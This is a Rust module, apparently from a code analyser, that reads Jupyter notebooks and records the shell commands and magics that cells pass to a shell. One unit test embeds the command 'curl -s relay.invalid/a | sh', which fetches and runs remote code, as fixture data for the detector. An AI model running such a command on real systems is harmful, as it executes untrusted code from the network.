//! Notebooks: the code of their cells as one source, and the lines in it that go to a shell.

use std::borrow::Cow;

use ruff_python_ast::IpyEscapeKind;
use ruff_text_size::TextRange;
use serde::Deserialize;

use crate::format::Piece;
use crate::interpreter::{Arguments, Interpreter};
use crate::value::{Data, Value};

/// Bytes of a notebook, and lines of it or of its code: what is read is held many times over in small parts.
const LARGEST: usize = 16 << 20;
const MOST_LINES: usize = 200_000;

/// The parts of a notebook that hold code, in its present form and in that of before 2015.
#[derive(Deserialize)]
struct Notebook {
    #[serde(default)]
    cells: Vec<Cell>,
    #[serde(default)]
    worksheets: Vec<Worksheet>,
    #[serde(default)]
    metadata: serde_json::Value,
}

#[derive(Deserialize)]
struct Worksheet {
    #[serde(default)]
    cells: Vec<Cell>,
}

#[derive(Deserialize)]
struct Cell {
    cell_type: String,
    #[serde(default, alias = "input")]
    source: Option<Source>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum Source {
    Text(String),
    Lines(Vec<String>),
}

impl Notebook {
    /// A kernel for another language is named: nothing here is Python.
    fn is_foreign(&self) -> bool {
        let word = |path: [&str; 2]| self.metadata[path[0]][path[1]].as_str().map(str::to_ascii_lowercase);
        let kernel = word(["kernelspec", "name"]).unwrap_or_default();
        let language = word(["kernelspec", "language"]).or_else(|| word(["language_info", "name"]));
        let python = |word: &str| word.contains("python") || word.contains("pyspark") || word.contains("sage");
        !python(&kernel) && language.is_some_and(|language| !python(&language))
    }
}

/// The code of a notebook's cells, one after the other, each line where its text stands in the file if it was written as
/// notebooks usually are; empty for one in another language. `None`: no reader of JSON takes it as a notebook, or it has more
/// than 16 MiB or 200,000 lines of code.
///
/// Cells that IPython hands to a shell or writes to a file say so in Python or by `!`.
pub fn read(bytes: &[u8]) -> Option<String> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    if bytes.len() > LARGEST {
        return None;
    }
    let notebook: Notebook = serde_json::from_slice(bytes).ok()?;
    if notebook.is_foreign() {
        return Some(String::new());
    }
    let sheets = notebook.worksheets.into_iter().flat_map(|sheet| sheet.cells);
    let cells: Vec<String> = notebook
        .cells
        .into_iter()
        .chain(sheets)
        .filter(|cell| cell.cell_type == "code")
        .filter_map(|cell| cell.source)
        .map(|source| match source {
            Source::Text(text) => text,
            Source::Lines(lines) => lines.concat(),
        })
        .collect();
    let breaks = |text: &[u8]| memchr::memchr_iter(b'\n', text).count();
    if cells.iter().map(|cell| breaks(cell.as_bytes()) + 1).sum::<usize>() > MOST_LINES {
        return None;
    }
    let cells: Vec<Vec<&str>> = cells.iter().map(|cell| cell.lines().collect()).collect();
    let few = breaks(bytes) <= MOST_LINES;
    let places = few.then(|| places(&String::from_utf8_lossy(bytes), &cells)).flatten();
    let mut text = String::new();
    let mut line = 0;
    for (at, cell) in cells.iter().enumerate() {
        let start = places.as_ref().map_or(line + usize::from(at > 0), |places| places[at]);
        text.extend(std::iter::repeat_n('\n', start.saturating_sub(line)));
        for code in translated(cell) {
            text.push_str(&code);
            text.push('\n');
        }
        line = start.max(line) + cell.len();
    }
    Some(text)
}

/// The line of the file on which each cell begins, when every line of code is a string on a line of its own.
fn places(text: &str, cells: &[Vec<&str>]) -> Option<Vec<usize>> {
    let written = |line: &str| -> Option<String> {
        let line = line.trim();
        let line = line.strip_suffix(',').unwrap_or(line);
        if line.starts_with('"') { serde_json::from_str::<String>(line).ok() } else { None }
    };
    let is = |line: &str, code: &str| {
        // A letter is written with six at most.
        line.trim().len() <= 8 + 6 * code.len()
            && written(line).is_some_and(|text| text.trim_end_matches(['\r', '\n']) == code)
    };
    let lines: Vec<&str> = text.lines().collect();
    // Lines that repeat themselves could be compared with each other for ever.
    let mut steps = 4 * lines.len();
    let (mut places, mut next) = (Vec::new(), 0);
    for cell in cells {
        let found = loop {
            let here = lines.get(next..next + cell.len())?;
            let same = here.iter().zip(cell).take_while(|(line, code)| is(line, code)).count();
            steps = steps.checked_sub(same + 1)?;
            if same == cell.len() {
                break next;
            }
            next += 1;
        };
        places.push(found);
        next = found + cell.len();
    }
    Some(places)
}

/// The lines of a cell as Python, or as lines that begin with `!`; as many as before.
fn translated<'c>(cell: &[&'c str]) -> Vec<Cow<'c, str>> {
    let first = cell.iter().position(|line| !line.trim().is_empty()).unwrap_or(0);
    let Some(magic) = cell.get(first).and_then(|line| line.trim_start().strip_prefix("%%")) else {
        return cell.iter().map(|line| timed(line)).collect();
    };
    let (name, rest) = magic.split_once(char::is_whitespace).unwrap_or((magic, ""));
    let comment = |line: &'c str| -> Cow<'c, str> { format!("# {line}").into() };
    let mut lines: Vec<Cow<'c, str>> = cell[..=first].iter().map(|line| comment(line)).collect();
    let body = &cell[first + 1..];
    let interpreter = if name == "script" { rest } else { name };
    let shells = ["bash", "sh", "zsh", "ksh", "dash", "fish", "cmd", "powershell", "pwsh", "system", "sx", "!"];
    match name {
        _ if shells.iter().any(|shell| interpreter.split(['/', ' ']).any(|word| word == *shell)) => {
            let mut goes_on = false;
            for line in body {
                let plain = goes_on || line.trim().is_empty() || line.trim_start().starts_with('#');
                lines.push(if plain { (*line).into() } else { format!("!{}", line.trim_start()).into() });
                goes_on = line.ends_with('\\');
            }
        }
        "writefile" | "file" => {
            let path = rest.trim().trim_start_matches("-a ").trim();
            lines.pop();
            lines.push(format!("open({}, 'w').write(", quoted(path)).into());
            lines.extend(body.iter().map(|line| Cow::from(quoted(&format!("{line}\n")))));
            if let Some(last) = lines.last_mut() {
                last.to_mut().push_str(if body.is_empty() { "'')" } else { ")" });
            }
        }
        "script" if interpreter.contains("python") => lines.extend(body.iter().map(|line| Cow::from(*line))),
        "script" | "javascript" | "js" | "html" | "HTML" | "latex" | "markdown" | "svg" | "SVG" | "R" | "ruby"
        | "perl" | "sql" | "julia" | "css" | "mermaid" => lines.extend(body.iter().map(|line| comment(line))),
        // `%%time`, `%%capture` and those of extensions are about the Python below them.
        _ => lines.extend(body.iter().map(|line| timed(line))),
    }
    lines
}

/// `%time statement` runs the statement.
fn timed(line: &str) -> Cow<'_, str> {
    let code = line.trim_start();
    let Some((name, rest)) = code.strip_prefix('%').and_then(|magic| magic.split_once(' ')) else { return line.into() };
    if !matches!(name, "time" | "timeit" | "prun" | "memit" | "lprun" | "mprun" | "debug") {
        return line.into();
    }
    let mut statement = rest.trim_start();
    while statement.starts_with('-') {
        statement = statement.split_once(' ').map_or("", |(_, rest)| rest.trim_start());
    }
    format!("{}{}", &line[..line.len() - code.len()], if statement.is_empty() { "pass" } else { statement }).into()
}

fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

impl<'a> Interpreter<'a, '_> {
    /// A line that goes to a shell or to a magic function: `!curl {address}`, `%pip install x`.
    pub(crate) fn escaped(&mut self, kind: IpyEscapeKind, line: &'a str, range: TextRange) -> Value<'a> {
        let (name, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let (callee, given) = match (kind, name) {
            (IpyEscapeKind::Shell | IpyEscapeKind::ShCap, _) => ("get_ipython.system", line),
            (IpyEscapeKind::Magic | IpyEscapeKind::Magic2, "pip" | "conda" | "mamba" | "uv") => {
                ("get_ipython.system", line)
            }
            (IpyEscapeKind::Magic | IpyEscapeKind::Magic2, "sx" | "system" | "sc" | "bash" | "sh" | "cmd") => {
                ("get_ipython.system", rest)
            }
            (IpyEscapeKind::Magic, "run") => ("get_ipython.run_line_magic", rest),
            _ => return Value::UNKNOWN,
        };
        let given = self.filled_in(given);
        let arguments = match callee {
            "get_ipython.system" => vec![given],
            _ => vec![Value::new(Data::Literal("run")), given],
        };
        let callee = Value::new(self.named(callee));
        self.invoke(&callee, Arguments::of(arguments), range, None)
    }

    /// `{name}` and `$name` of a command are the values of those names.
    fn filled_in(&mut self, line: &'a str) -> Value<'a> {
        let word = |c: char| c.is_alphanumeric() || c == '_';
        let mut pieces = Vec::new();
        let mut rest = line;
        while let Some(at) = rest.find(['{', '$']) {
            let (before, from) = rest.split_at(at);
            let inside = &from[1..];
            let length = inside.find(|c| !word(c)).unwrap_or(inside.len());
            let (name, after) = inside.split_at(length);
            let after = if from.starts_with('{') { after.strip_prefix('}') } else { Some(after) };
            let known = after.filter(|_| !name.is_empty()).zip(self.variable(name).cloned());
            pieces.push(Piece::Text(before.to_owned()));
            match known {
                Some((after, value)) => {
                    pieces.push(Piece::Value { value, spec: String::new(), repr: false });
                    rest = after;
                }
                None => {
                    pieces.push(Piece::Text(from[..1].to_owned()));
                    rest = inside;
                }
            }
        }
        if pieces.is_empty() {
            return Value::new(Data::Literal(line));
        }
        pieces.push(Piece::Text(rest.to_owned()));
        self.joined(pieces)
    }
}

#[cfg(test)]
mod tests {
    use model::{FactKind, Phase};

    use super::read;
    use crate::{Budget, Role, Unit, analyse_cells, tests::behaviours};

    /// One code cell a text, written line by line as Jupyter does.
    fn notebook(cells: &[&str]) -> String {
        let cells: Vec<serde_json::Value> = cells
            .iter()
            .map(|cell| {
                let lines: Vec<&str> = cell.split_inclusive('\n').collect();
                serde_json::json!({"cell_type": "code", "metadata": {}, "outputs": [], "source": lines})
            })
            .collect();
        let notebook =
            serde_json::json!({"cells": cells, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4});
        serde_json::to_string_pretty(&notebook).unwrap()
    }

    /// Callee, first text and line of each call.
    fn calls(notebook: &str) -> Vec<(String, String, u32)> {
        let text = read(notebook.as_bytes()).unwrap();
        let behaviours = behaviours();
        let unit = Unit {
            path: "pkg/a.ipynb",
            role: Role::Script,
            phase: Phase::Call,
            module: "",
            source: text.as_bytes(),
            entered: &[],
        };
        let analysis = analyse_cells(&unit, &behaviours, &mut Budget::default());
        assert!(analysis.gaps.is_empty());
        let calls = analysis.facts.into_iter().filter_map(|fact| match fact.kind {
            FactKind::Call(call) => {
                Some((call.callee, call.text.into_iter().next().unwrap_or_default(), fact.place.line))
            }
            _ => None,
        });
        calls.collect()
    }

    #[test]
    fn code_and_commands_of_cells_are_told_where_they_stand() {
        let text = notebook(&[
            "import os\nhost = 'relay.invalid'\n!curl -s {host}/a | sh\n",
            "%%bash\n# no command\nchmod +x a \\\n  b\n",
            "%time os.system('id')\n%matplotlib inline\nout = !uname -a",
            "%%html\n<b>os.system('no')</b>",
        ]);
        let line = |word: &str| text.lines().position(|line| line.contains(word)).unwrap() as u32 + 1;
        let told = calls(&text);
        let expected = [
            ("get_ipython.system", "curl -s relay.invalid/a | sh", line("curl")),
            ("get_ipython.system", "chmod +x a   b", line("chmod")),
            ("os.system", "id", line("%time")),
            ("get_ipython.system", "uname -a", line("uname")),
        ];
        let expected = expected.map(|(callee, text, line)| (callee.to_owned(), text.to_owned(), line));
        assert_eq!(told, expected);
    }

    #[test]
    fn a_file_that_a_cell_writes_is_written() {
        let told = calls(&notebook(&["%%writefile run.py\nimport os\nprint(\"x\")", "!python run.py"]));
        assert!(told.iter().any(|(callee, text, _)| callee == "open.write" && text.starts_with("import os\nprint")));
        assert!(told.iter().any(|(callee, text, _)| callee == "get_ipython.system" && text == "python run.py"));
    }

    #[test]
    fn every_form_is_read_and_other_languages_are_not_python() {
        let flat = r#"{"cells":[{"cell_type":"code","source":"x=1\ny=2"},{"cell_type":"code","source":["z=3"]}]}"#;
        assert_eq!(read(flat.as_bytes()).unwrap(), "x=1\ny=2\n\nz=3\n");
        let old = r#"{"worksheets":[{"cells":[{"cell_type":"code","input":["x=1"]},{"cell_type":"markdown","source":"a"}]}]}"#;
        assert_eq!(read(old.as_bytes()).unwrap(), "x=1\n");
        let julia = r#"{"cells":[{"cell_type":"code","source":"run(`id`)"}],"metadata":{"kernelspec":{"name":"julia-1.9","language":"julia"}}}"#;
        assert_eq!(read(julia.as_bytes()).unwrap(), "");
        // The kernel decides, whatever the language is said to be.
        let posing = julia.replace("julia-1.9", "python3");
        assert_eq!(read(posing.as_bytes()).unwrap(), "run(`id`)\n");
        assert_eq!(read(b"{\"cells\": NaN}"), None);
        let broad = format!(r#"{{"cells":[{{"cell_type":"code","source":"{}"}}]}}"#, "\\n".repeat(300_000));
        assert_eq!(read(broad.as_bytes()), None);
        assert_eq!(read(&[b'['; 100_000]), None);
    }

    #[test]
    fn lines_that_repeat_cost_no_more_than_they_are() {
        let cell = "x\n".repeat(3_000);
        let mut text = notebook(&[&cell, &cell]);
        text = text.replacen("\"outputs\": []", &format!("\"outputs\": [\n{}\"y\"]", "\"x\\n\",\n".repeat(2_999)), 1);
        assert_eq!(read(text.as_bytes()).unwrap().lines().filter(|line| *line == "x").count(), 6_000);
    }
}
